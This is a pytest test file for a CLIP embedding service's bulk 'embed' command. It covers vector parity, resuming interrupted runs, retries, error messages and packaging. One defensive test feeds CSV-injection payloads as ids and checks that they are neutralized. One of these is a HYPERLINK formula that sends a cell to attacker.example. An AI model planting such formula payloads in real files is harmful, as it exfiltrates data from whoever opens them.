"""``clip-service embed``: the same vectors as the service, resumption, retries of failures, one-line errors."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pyarrow.parquet as pq
import pytest
import tomllib
from PIL import Image

from clip_service import cli
from clip_service.bulk.inputs import InputError, read_items
from clip_service.bulk.store import ModelStamp, PartStore, Row
from clip_service.client.sources import data_uri

from .helpers import FIXTURES, TINY_MODEL, image_bytes
from .live_server import LiveServer, RequiresKey, Slow
from .support.gunicorn import free_port

ROOT = Path(__file__).parent.parent
PHOTOS = ("chelsea_0.jpg", "coffee_0.jpg", "camera.png")


@pytest.fixture
def server(app):
    with LiveServer(app) as live:
        yield live



@pytest.fixture
def folder(tmp_path, photos) -> Path:
    """Photos in nested folders, and the bad files a real folder has."""
    root = tmp_path / "photos"
    (root / "a" / "b").mkdir(parents=True)
    (root / ".cache").mkdir()
    (root / "a" / "chelsea_0.jpg").write_bytes(photos["chelsea_0.jpg"])
    (root / "a" / "b" / "coffee_0.jpg").write_bytes(photos["coffee_0.jpg"])
    (root / "camera.png").write_bytes(photos["camera.png"])
    (root / "bad.jpg").write_text("this is not an image")
    (root / "scan.tiff").write_bytes(image_bytes(Image.new("RGB", (8, 8), "red"), "TIFF"))
    (root / "gone.png").symlink_to(root / "nowhere.png")
    (root / "notes.txt").write_text("not an image file name: skipped")
    (root / ".hidden.jpg").write_bytes(photos["camera.png"])
    (root / ".cache" / "thumb.jpg").write_bytes(photos["camera.png"])
    return root


FOLDER_OUTCOMES = {"a/chelsea_0.jpg": None, "a/b/coffee_0.jpg": None, "camera.png": None,
                   "bad.jpg": "not_an_image", "scan.tiff": "unsupported_format", "gone.png": "unreadable_file"}


def rows(output: Path) -> dict[str, dict]:
    """The output directory read back as one table (as pandas or DuckDB would), by id; no id twice."""
    table = pq.read_table(output).to_pylist()
    ids = [row["id"] for row in table]
    assert len(ids) == len(set(ids)), "an id was written twice"
    return {row["id"]: row for row in table}


def service_vectors(app, path: str, field: str, values: list) -> np.ndarray:
    response = app.test_client().post(path, json={field: values})
    assert response.status_code == 200
    return np.array(response.get_json()["embeddings"], dtype=np.float32)


def run_cli(*args: str, env: dict | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "clip_service.cli", *args], cwd=ROOT, capture_output=True,
                          text=True, timeout=timeout, env={**os.environ, **(env or {})})


def one_line(stderr: str) -> str:
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in stderr, stderr
    return lines[0]


# --- the same vectors as the service ------------------------------------------------------------------

@pytest.mark.parametrize("mode", ["in-process", "url"])
def test_a_folder_gives_the_services_vectors_and_a_row_for_every_bad_file(mode, folder, tmp_path, app, in_process,
                                                                          capsys):
    out = tmp_path / "out.parquet"
    with LiveServer(app) as live:
        status = cli.main(["embed", str(folder), "-o", str(out), *(["--url", live.url] if mode == "url" else [])])
    assert status == 0
    written = rows(out)
    assert {i: r["error_code"] for i, r in written.items()} == FOLDER_OUTCOMES
    assert all(r["modality"] == "image" for r in written.values())
    good = [i for i, code in FOLDER_OUTCOMES.items() if code is None]
    expected = service_vectors(app, "/embed/image", "urls", [data_uri((folder / i).read_bytes()) for i in good])
    np.testing.assert_allclose([written[i]["vector"] for i in good], expected, atol=1e-6)
    assert all(written[i]["vector"] is None and written[i]["error_message"] for i in FOLDER_OUTCOMES if i not in good)
    assert pq.read_schema(out / "part-000000.parquet").field("vector").type.list_size == 32
    summary = one_line(capsys.readouterr().err)  # not a terminal: no bar, one summary line
    assert "6 items: 3 embedded, 3 failed, 0 written before" in summary


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_a_table_of_texts_urls_and_paths_gives_the_services_vectors(kind, server, app, image_server, tmp_path):
    table = [{"id": "t1", "text": "a photo of a cat"}, {"id": "t2", "text": "a cup of coffee"},
             {"id": "u1", "url": image_server.url("/coffee_0.jpg")}, {"id": "u2", "url": image_server.url("/nope.jpg")},
             {"id": "p1", "path": "camera.png"}, {"id": "x1"}, {"id": "x2", "text": "both", "url": "http://a/b.png"}]
    (tmp_path / "camera.png").write_bytes((FIXTURES / "camera.png").read_bytes())
    source = tmp_path / f"items.{kind}"
    if kind == "csv":
        with source.open("w", newline="") as out:
            writer = csv.DictWriter(out, fieldnames=["id", "text", "url", "path"])
            writer.writeheader()
            writer.writerows(table)
    else:
        source.write_text("".join(json.dumps(row) + "\n" for row in table))
    out = tmp_path / "out.parquet"
    assert cli.main(["embed", str(source), "-o", str(out), "--url", server.url]) == 0
    written = rows(out)
    assert {i: (r["modality"], r["error_code"]) for i, r in written.items()} == {
        "t1": ("text", None), "t2": ("text", None), "u1": ("image", None), "u2": ("image", "upstream_status"),
        "p1": ("image", None), "x1": ("image", "invalid_input"), "x2": ("text", "invalid_input")}
    np.testing.assert_allclose([written["t1"]["vector"], written["t2"]["vector"]], service_vectors(
        app, "/embed/text", "texts", ["a photo of a cat", "a cup of coffee"]), atol=1e-6)
    np.testing.assert_allclose([written["u1"]["vector"], written["p1"]["vector"]], service_vectors(
        app, "/embed/image", "urls", [image_server.url("/coffee_0.jpg"), image_server.url("/camera.png")]), atol=1e-6)


def test_npy_output_holds_the_same_vectors_in_input_order(folder, tmp_path, in_process, capsys):
    assert cli.main(["embed", str(folder), "-o", str(tmp_path / "v.parquet")]) == 0
    assert cli.main(["embed", str(folder), "-o", str(tmp_path / "v.npy")]) == 0
    vectors = np.load(tmp_path / "v.npy")
    ids = (tmp_path / "v.ids.txt").read_text().splitlines()
    assert ids == [i for i in (item.id for item in read_items(folder)) if FOLDER_OUTCOMES[i] is None]
    assert vectors.dtype == np.float32 and vectors.shape == (3, 32)
    written = rows(tmp_path / "v.parquet")
    np.testing.assert_allclose(vectors, [written[i]["vector"] for i in ids], atol=1e-6)
    with open(tmp_path / "v.errors.csv", newline="") as errors:
        assert {r["id"]: r["error_code"] for r in csv.DictReader(errors)} == {
            i: code for i, code in FOLDER_OUTCOMES.items() if code}
    assert "(3 vectors), v.ids.txt, v.errors.csv" in capsys.readouterr().err


@pytest.mark.parametrize("output", ["v.npy", "v.parquet"])
def test_a_file_name_with_a_line_break_is_a_row_with_an_error_not_a_refusal(output, folder, photos, tmp_path,
                                                                              in_process):
    # ids.txt lists one id a line: such an id could not be listed, so that file fails, alone.
    (folder / "two\nlines.jpg").write_bytes(photos["chelsea_0.jpg"])
    (folder / "a" / "carriage\rreturn.png").write_bytes(photos["camera.png"])
    assert cli.main(["embed", str(folder), "-o", str(tmp_path / output)]) == 0
    written = rows(tmp_path / "v.parquet" if output.endswith(".parquet") else tmp_path / "v.npy.parts")
    expected = {**FOLDER_OUTCOMES, "two\nlines.jpg": "invalid_input", "a/carriage\rreturn.png": "invalid_input"}
    assert {i: r["error_code"] for i, r in written.items()} == expected
    assert "holds a line break" in written["two\nlines.jpg"]["error_message"]
    if output.endswith(".npy"):
        assert (tmp_path / "v.ids.txt").read_text().split("\n") == [
            *(i for i in (item.id for item in read_items(folder)) if expected[i] is None), ""]
        with open(tmp_path / "v.errors.csv", newline="") as errors:
            assert {r["id"]: r["error_code"] for r in csv.DictReader(errors)} == {
                i: code for i, code in expected.items() if code}


@pytest.mark.parametrize("kind", ["csv", "urls", "folder"])
def test_errors_csv_cells_that_a_spreadsheet_would_run_are_text(kind, folder, tmp_path, in_process):
    # OWASP's CSV injection: a cell that begins with = + - @ tab or CR is a formula to a spreadsheet.
    hostile = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', "+SUM(1)", "-2+3", "@SUM(1)", "\tTAB", "\rCR"]
    if kind == "csv":
        source = tmp_path / "items.csv"
        with source.open("w", newline="") as out:
            csv.writer(out).writerows([["id", "text"], *([i, ""] for i in hostile), ["a=b", ""], ["fine", "a cat"]])
    elif kind == "urls":  # a URL list's id is the line itself (stripped: no leading tab or CR)
        hostile = hostile[:4]
        source = tmp_path / "urls.txt"
        source.write_text("".join(f"{line}\n" for line in [*hostile, "a=b"]))
    else:  # a file name cannot hold a slash
        hostile = ["=1+1.jpg", "+SUM(1).jpg", "-2+3.jpg", "@SUM(1).jpg", "\tTAB.jpg", "\rCR.jpg"]
        source = folder
        for name in [*hostile, "a=b.jpg"]:
            (folder / name).write_text("not an image")
    assert cli.main(["embed", str(source), "-o", str(tmp_path / "v.npy")]) == 0

    text = (tmp_path / "v.errors.csv").read_bytes().decode("utf-8")  # as it is: no newline translation
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    ids = [row["id"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert set(ids) >= {"'" + i for i in hostile} | {"a=b" if kind != "folder" else "a=b.jpg"}
    assert set(rows(tmp_path / "v.npy.parts")) >= set(hostile)  # the Parquet parts keep the ids as they are


# --- resumption -----------------------------------------------------------------------------------------

def mixed_items(tmp_path: Path, image_server) -> Path:
    """A JSONL of 100 texts and 20 images (paths and URLs, two that fail), long enough to interrupt."""
    lines = [{"id": f"text-{i:03d}", "text": f"a photo of thing number {i}"} for i in range(100)]
    for i in range(20):
        name = PHOTOS[i % 3]
        lines.append({"id": f"image-{i:02d}", "path": str(FIXTURES / name)} if i % 2 else
                     {"id": f"image-{i:02d}", "url": image_server.url(f"/{name}" if i != 4 else "/missing.jpg")})
    lines.append({"id": "image-bad", "path": str(tmp_path / "absent.png")})
    source = tmp_path / "items.jsonl"
    source.write_text("".join(json.dumps(line) + "\n" for line in lines))
    return source


def wait_for_rows(output: Path, at_least: int, timeout: float = 60) -> int:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        parts = sorted(output.glob("part-*.parquet")) if output.exists() else []
        count = 0
        for part in parts:
            try:
                count += pq.read_metadata(part).num_rows
            except OSError:
                pass  # renamed into place just now; read again next time
        if count >= at_least:
            return count
        time.sleep(0.02)
    raise AssertionError(f"fewer than {at_least} rows written within {timeout}s")


def assert_same_output(resumed: dict[str, dict], reference: dict[str, dict]) -> None:
    assert sorted(resumed) == sorted(reference)  # no id missing (and rows() found none twice)
    for item_id, row in reference.items():
        assert resumed[item_id]["error_code"] == row["error_code"], item_id
        if row["vector"] is not None:
            np.testing.assert_allclose(resumed[item_id]["vector"], row["vector"], atol=1e-6)


_CLI_AS_FOREGROUND_JOB = ("import runpy, signal; signal.signal(signal.SIGINT, signal.default_int_handler); "
                          "runpy.run_module('clip_service.cli', run_name='__main__', alter_sys=True)")


@pytest.mark.parametrize("stop", [signal.SIGKILL, signal.SIGINT, signal.SIGTERM], ids=["kill", "ctrl-c", "term"])
def test_a_run_stopped_midway_resumes_to_the_output_of_an_uninterrupted_run(stop, make_app, image_server, tmp_path):
    source = mixed_items(tmp_path, image_server)
    app = make_app(max_texts=4, max_urls=2)
    with LiveServer(app) as fast:
        assert cli.main(["embed", str(source), "-o", str(tmp_path / "reference.parquet"), "--url", fast.url]) == 0
    reference = rows(tmp_path / "reference.parquet")
    assert len(reference) == 121

    out = tmp_path / "out.parquet"
    held = threading.Event()
    # 35 requests of at least 80 ms one at a time, with a part every 8 rows; from the 11th (~35 rows)
    # on, requests wait until the run has been stopped, so it cannot end first on a busy machine.
    with LiveServer(Slow(app, 0.08, hold=held, hold_after=10)) as slow:
        # As from a terminal: a job started in the background of a script (as CI may run this suite)
        # inherits SIGINT ignored, and Python then keeps ignoring Ctrl-C, as it should. So the child
        # takes Python's own Ctrl-C handler back first (in itself: a preexec_fn is unsafe in this
        # process, whose server threads run while it forks).
        run = subprocess.Popen([sys.executable, "-c", _CLI_AS_FOREGROUND_JOB, "embed", str(source), "-o", str(out),
                                "--url", slow.url, "--concurrency", "1", "--flush-rows", "8"],
                               cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        try:
            wait_for_rows(out, 16)
            run.send_signal(stop)
            _, stderr = run.communicate(timeout=60)
        finally:
            held.set()
            if run.poll() is None:
                run.kill()
                run.wait(10)
        written_when_stopped = sum(pq.read_metadata(p).num_rows for p in out.glob("part-*.parquet"))
        assert 16 <= written_when_stopped < 121, "the run was meant to be stopped midway"
        if stop == signal.SIGKILL:
            assert run.returncode == -signal.SIGKILL
        else:
            # Ctrl-C and SIGTERM keep the rows that came back, and say how to go on.
            assert run.returncode == 128 + stop
            assert "interrupted" in one_line(stderr) and "rerun the same command to resume" in stderr

        again = run_cli("embed", str(source), "-o", str(out), "--url", slow.url, "--concurrency", "2")
    assert again.returncode == 0, again.stderr
    summary = one_line(again.stderr)
    assert f"{written_when_stopped} written before" in summary
    assert not list(out.glob(".*.tmp"))
    assert_same_output(rows(out), reference)


@pytest.mark.parametrize("stop", [signal.SIGINT, signal.SIGTERM], ids=["ctrl-c", "term"])
def test_an_in_process_run_stops_with_its_status_not_sigabrt(stop, tiny_model_dir, app, tmp_path):
    # Daemon threads still inside a forward pass when the interpreter exits abort it: exit 134,
    # "terminate called without an active exception" (3 of 3 runs before the fix). Long captions keep
    # even the tiny model's passes in torch most of the time; more of them than the test waits for.
    texts = {f"t{i:06d}": f"a photo of thing number {i} " + "in a long caption " * 15 for i in range(100_000)}
    source = tmp_path / "texts.jsonl"
    source.write_text("".join(json.dumps({"id": i, "text": t}) + "\n" for i, t in texts.items()))
    out = tmp_path / "out.parquet"
    env = {**{k: v for k, v in os.environ.items() if not k.startswith("CLIP_")}, "HF_HUB_OFFLINE": "1",
           "CLIP_MODEL": f"local-dir:{tiny_model_dir}",
           "CLIP_PRETRAINED": str(tiny_model_dir / "open_clip_pytorch_model.bin"), "CLIP_PRECISION": "fp32"}
    # Its own process group, which the signal is sent to as a terminal sends Ctrl-C; SIGINT at its
    # default, as a foreground job has it (see the test above).
    run = subprocess.Popen([sys.executable, "-c", _CLI_AS_FOREGROUND_JOB, "embed", str(source), "-o", str(out),
                            "--flush-rows", "256"], cwd=ROOT, env=env, stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        wait_for_rows(out, 512)  # the model is busy: batches are in flight
        os.killpg(run.pid, stop)
        _, stderr = run.communicate(timeout=60)
    finally:
        if run.poll() is None:
            os.killpg(run.pid, signal.SIGKILL)
            run.wait(10)
    assert run.returncode == 128 + stop, stderr
    line = one_line(stderr)
    assert "interrupted" in line and "rerun the same command to resume" in line
    # What was written is right: the service's vectors for those texts.
    written = rows(out)
    assert 512 <= len(written) < len(texts)
    sample = sorted(written)[::max(1, len(written) // 16)]
    np.testing.assert_allclose([written[i]["vector"] for i in sample],
                               service_vectors(app, "/embed/text", "texts", [texts[i] for i in sample]), atol=1e-6)


def test_retry_failed_embeds_the_failed_items_again_and_nothing_twice(server, image_server, photos, tmp_path, capsys):
    urls = tmp_path / "urls.txt"
    urls.write_text(f"# photos\n{image_server.url('/coffee_0.jpg')}\n{image_server.url('/later.jpg')}\n\n"
                    f"{image_server.url('/coffee_0.jpg')}\n")
    out = tmp_path / "out.parquet"
    assert cli.main(["embed", str(urls), "-o", str(out), "--url", server.url]) == 0
    assert {i: r["error_code"] for i, r in rows(out).items()} == {
        image_server.url("/coffee_0.jpg"): None, image_server.url("/later.jpg"): "upstream_status"}
    image_server.add("/later.jpg", photos["chelsea_0.jpg"], "image/jpeg")
    assert cli.main(["embed", str(urls), "-o", str(out), "--url", server.url]) == 0
    assert "nothing left to do" in capsys.readouterr().err
    assert rows(out)[image_server.url("/later.jpg")]["error_code"] == "upstream_status"
    assert cli.main(["embed", str(urls), "-o", str(out), "--url", server.url, "--retry-failed"]) == 0
    assert "1 embedded, 0 failed, 1 written before" in capsys.readouterr().err
    written = rows(out)
    assert [r["error_code"] for r in written.values()] == [None, None]


# --- one clear line when the run cannot start ----------------------------------------------------------

@pytest.mark.parametrize("case", ["nothing listens", "not the service", "wrong key", "no key"])
def test_a_wrong_url_or_key_stops_at_once_with_one_line(case, app, folder, tmp_path):
    key = "k" * 24
    with LiveServer(RequiresKey(app, key)) as locked, LiveServer(app) as open_service:
        url, args = {"nothing listens": (f"http://127.0.0.1:{free_port()}", []),
                     "not the service": (open_service.url + "/v2", []),
                     "wrong key": (locked.url, ["--api-key", "not-the-key"]),
                     "no key": (locked.url, [])}[case]
        started = time.monotonic()
        done = run_cli("embed", str(folder), "-o", str(tmp_path / "out.parquet"), "--url", url, *args,
                       env={"CLIP_SERVICE_API_KEY": ""})
        elapsed = time.monotonic() - started
        line = one_line(done.stderr)
        assert done.returncode == 1 and elapsed < 30
        assert line.startswith("clip-service embed: ")
        assert {"nothing listens": "cannot reach", "not the service": "a clip-service?",
                "wrong key": "refused the API key (401)", "no key": "refused the API key (401)"}[case] in line
        assert not (tmp_path / "out.parquet").exists()  # stopped before anything was read or written
        # The right key, from the environment, gets through.
        if case == "wrong key":
            ok = run_cli("embed", str(folder), "-o", str(tmp_path / "out.parquet"), "--url", locked.url,
                         env={"CLIP_SERVICE_API_KEY": key})
            assert ok.returncode == 0, ok.stderr


@pytest.mark.parametrize("env, says, status", [
    ({"CLIP_MAX_BATCH": "lots"}, "CLIP_MAX_BATCH='lots' is invalid", 78),
    ({"CLIP_DEVICE": "tpu"}, "CLIP_DEVICE='tpu' is invalid", 78),
    ({"CLIP_PRETRAINED": "/no/such/weights.pt"}, "cannot load model", 3),
])
def test_a_bad_setting_for_the_model_in_process_is_one_line(env, says, status, folder, tmp_path):
    # The statuses and the line of the service itself (clip_service.startup): 78 settings, 3 weights.
    done = run_cli("embed", str(folder), "-o", str(tmp_path / "out.parquet"), env={"HF_HUB_OFFLINE": "1", **env})
    assert done.returncode == status
    assert says in one_line(done.stderr) and "Traceback" not in done.stderr


@pytest.mark.parametrize("lines, says", [
    (['{"id": "a", "text": "x"}', '{"id": "a", "text": "y"}'], "appears more than once"),
    (['{"id": "a", "text": "x"}', "not json"], "line 2: not JSON"),
    (['{"name": "a", "text": "x"}'], "needs an id column"),
    (['{"text": "x", "id": ""}'], "row 1: no id"),
])
def test_an_input_that_cannot_be_listed_is_one_line(lines, says, tmp_path, capsys):
    source = tmp_path / "items.jsonl"
    source.write_text("\n".join(lines) + "\n")
    # Without --url the input is read before the model loads, so no model is needed to hear about it.
    assert cli.main(["embed", str(source), "-o", str(tmp_path / "out.parquet")]) == 2
    assert says in one_line(capsys.readouterr().err)
    with pytest.raises(InputError, match=says):
        read_items(source)


def test_the_output_must_be_parquet_or_npy(tmp_path, capsys):
    assert cli.main(["embed", str(tmp_path), "-o", str(tmp_path / "out.csv")]) == 2
    assert "OUT must end in .parquet or .npy" in one_line(capsys.readouterr().err)


def test_an_output_made_by_another_model_is_refused(folder, tmp_path, in_process, capsys):
    out = tmp_path / "out.parquet"
    store = PartStore(out).open()
    store.check_model(ModelStamp("ViT-B-32", "laion400m_e32", 512))
    store.write([Row("a/chelsea_0.jpg", "image", np.ones(512, dtype=np.float32) / np.sqrt(512))])
    store.close()
    assert cli.main(["embed", str(folder), "-o", str(out)]) == 2
    assert "holds vectors of ViT-B-32" in one_line(capsys.readouterr().err)


def test_one_writer_at_a_time(tmp_path):
    first = PartStore(tmp_path / "out.parquet").open()
    try:
        with pytest.raises(InputError, match="another run is writing"):
            PartStore(tmp_path / "out.parquet").open()
    finally:
        first.close()
    PartStore(tmp_path / "out.parquet").open().close()


# --- the progress bar --------------------------------------------------------------------------------

def test_the_progress_bar_shows_rate_failures_and_eta_when_asked(server, folder, tmp_path):
    done = run_cli("embed", str(folder), "-o", str(tmp_path / "out.parquet"), "--url", server.url, "--progress")
    assert done.returncode == 0
    bar = done.stderr.replace("\r", "\n")
    assert "item/s" in bar and "failed=3" in bar and "6/6" in bar and "<00:00" in bar
    assert done.stderr.rstrip().splitlines()[-1].startswith("clip-service embed: 6 items: 3 embedded, 3 failed")


# --- installable -------------------------------------------------------------------------------------

def test_pyproject_names_the_command_and_reads_extras_from_the_requirements_files():
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())
    assert project["project"]["scripts"] == {"clip-service": "clip_service.cli:main"}
    assert callable(cli.main)
    extras = project["tool"]["setuptools"]["dynamic"]["optional-dependencies"]
    assert all((ROOT / f).is_file() for extra in extras.values() for f in extra["file"])
    # The client's own dependencies are all a client machine gets: no torch, Flask or open_clip.
    assert not any(name in dep for dep in project["project"]["dependencies"] for name in ("torch", "flask", "open"))


@pytest.mark.e2e
@pytest.mark.timeout(600)
def test_pip_install_gives_the_command_and_a_client_without_torch(server, app, folder, tmp_path):
    source = tmp_path / "src"
    source.mkdir()
    for name in ("pyproject.toml", "README.md", "requirements.txt", "requirements-bulk.txt", "requirements-ray.txt"):
        (source / name).write_bytes((ROOT / name).read_bytes())
    subprocess.run(["cp", "-r", str(ROOT / "clip_service"), str(source / "clip_service")], check=True)
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, timeout=120)
    install = subprocess.run([str(venv / "bin" / "pip"), "install", "-q", f"{source}[bulk]"], capture_output=True,
                             text=True, timeout=480)
    assert install.returncode == 0, install.stderr[-3000:]
    python = str(venv / "bin" / "python")
    assert subprocess.run([python, "-c", "import torch"], capture_output=True).returncode != 0
    out = tmp_path / "out.parquet"
    done = subprocess.run([str(venv / "bin" / "clip-service"), "embed", str(folder), "-o", str(out),
                           "--url", server.url], capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert {i: r["error_code"] for i, r in rows(out).items()} == FOLDER_OUTCOMES
    local = subprocess.run([str(venv / "bin" / "clip-service"), "embed", str(folder), "-o", str(tmp_path / "x.npy")],
                           capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert local.returncode == 2 and "pip install 'clip-service[server]'" in one_line(local.stderr)
